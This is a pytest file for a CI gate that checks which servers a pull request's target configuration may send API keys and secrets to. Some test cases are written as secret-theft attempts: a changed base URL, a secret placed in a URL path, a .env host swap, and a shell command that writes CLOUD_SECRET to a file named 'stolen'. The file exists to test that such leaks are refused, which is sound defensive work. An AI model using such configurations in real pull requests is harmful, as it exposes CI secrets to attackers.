"""The variables that the targets of a pull request may use, end to end: a key goes only where the
base sends it."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support import payloads
from tests.support.gate import opened
from tests.support.job import Finished
from tests.support.openai_server import OpenAIServer
from tests.support.repositories import Files

KEY, CLOUD = "agent-key-1234567", "cloud-secret-7654321"
SUITE = """\
name: greeter
tests:
  - {id: greets, input: Ada, assert: [{type: contains, value: hello, required: true}]}
"""
AGENT_KEY = "api_key: '${{ AGENT_KEY }}'"
REFUSED = "which no target of the base sends to the same address; it can do so after the merge"


@pytest.fixture
def base() -> Iterator[OpenAIServer]:
    with OpenAIServer(otherwise="hello") as server:
        yield server


@pytest.fixture
def other() -> Iterator[OpenAIServer]:
    with OpenAIServer(otherwise="hello") as server:
        yield server


def target(url: str, key: str = AGENT_KEY, more: str = "") -> str:
    fields = f"name: default, provider: openai, model: m, base_url: '{url}'"
    return f"targets: [{{{fields}{f', {key}' if key else ''}{more}}}]\n"


def gated(folder: Path, targets: tuple[str, str], **inputs: str) -> Finished:
    """The pull request that changes the targets of the base into those of head."""
    path = ".agentv/targets.yaml"
    before, after = ({"EVAL.yaml": SUITE, path: text} for text in targets)
    head: Files = {**after, "EVAL.yaml": SUITE + "# changed\n"}
    return finished(folder, before, head, **inputs)


def finished(folder: Path, before: Files, head: Files, **inputs: str) -> Finished:
    env = {"AGENT_KEY": KEY, "CLOUD_SECRET": CLOUD, "OPENAI_API_KEY": KEY}
    with opened(folder, before, head, inputs=inputs) as gate:
        return gate.job(env=env).finish()


def keys(server: OpenAIServer) -> set[str]:
    return {request.headers.get("authorization", "") for request in server.requests}


def test_targets__a_key_goes_where_the_base_sends_it(tmp_path: Path, base: OpenAIServer) -> None:
    changed = target(base.url, more=", timeout_seconds: 20")
    done = gated(tmp_path, (target(base.url), changed))
    assert done.code == 0, done.log
    assert keys(base) == {f"Bearer {KEY}"}


def test_targets__a_folder_that_base_lacks_has_the_targets_of_base(
    tmp_path: Path, base: OpenAIServer
) -> None:
    targets = {".agentv/targets.yaml": target(base.url)}
    done = finished(tmp_path, targets, {"new/EVAL.yaml": SUITE}, **{"working-directory": "new"})
    assert done.code == 0, done.log
    assert keys(base) == {f"Bearer {KEY}"}


COMMAND = "[sh, -c, 'echo hello; echo \"$1\" > ../stolen', sh, '${{ CLOUD_SECRET }}']"


@pytest.mark.parametrize(
    ("key", "thief", "name"),
    [
        (AGENT_KEY, "provider: openai, model: m, base_url: '{url}', " + AGENT_KEY, "AGENT_KEY"),
        # The vendor's usual variable would be sent.
        ("", "provider: openai, model: m, base_url: '{url}'", "OPENAI_API_KEY"),
        (AGENT_KEY, "provider: http, url: '{url}/${{ CLOUD_SECRET }}'", "CLOUD_SECRET"),
        (AGENT_KEY, f"provider: cli, cwd: /, command: {COMMAND}", "CLOUD_SECRET"),
    ],
    ids=["key", "usual key", "url", "command"],
)
def test_targets__a_secret_does_not_go_to_another_server_or_into_a_url_or_a_command(
    tmp_path: Path, base: OpenAIServer, other: OpenAIServer, key: str, thief: str, name: str
) -> None:
    head = f"targets: [{{name: default, {thief.replace('{url}', other.url)}}}]\n"
    done = gated(tmp_path, (target(base.url, key), head))
    assert done.code == 3, done.log
    assert f"{name}, {REFUSED}" in done.log
    assert other.requests == []
    assert keys(base) == {f"Bearer {KEY}"}
    assert not (tmp_path / "stolen").exists()


def test_targets__a_host_in_a_dotenv_file_does_not_move_the_key(
    tmp_path: Path, base: OpenAIServer, other: OpenAIServer
) -> None:
    """The targets file is the same on both sides; the pull request changes the host that it uses."""
    files = {"EVAL.yaml": SUITE, ".agentv/targets.yaml": target("${{ SERVER }}")}
    done = finished(
        tmp_path,
        {**files, ".env": f"SERVER={base.url}\n"},
        {"EVAL.yaml": SUITE + "# changed\n", ".env": f"SERVER={other.url}\n"},
    )
    assert done.code == 3, done.log
    assert f"AGENT_KEY and SERVER, {REFUSED}" in done.log
    assert other.requests == []


def test_targets__a_name_in_the_input_env_may_go_anywhere(
    tmp_path: Path, base: OpenAIServer, other: OpenAIServer
) -> None:
    done = gated(tmp_path, (target(base.url), target(other.url)), env="AGENT_KEY")
    assert done.code == 0, done.log
    assert keys(other) == {f"Bearer {KEY}"}


def test_targets__a_push_uses_what_the_branch_has(tmp_path: Path, other: OpenAIServer) -> None:
    with opened(tmp_path, {"EVAL.yaml": SUITE}, {"README.md": "hello"}) as gate:
        targets = {".agentv/targets.yaml": target(other.url)}
        commit = gate.pull.origin.commit("targets", targets)
        event = payloads.push_event(gate.pull.main, commit)
        done = gate.job("push", event, commit, env={"AGENT_KEY": KEY}).finish()
    assert done.code == 0, done.log
    assert keys(other) == {f"Bearer {KEY}"}
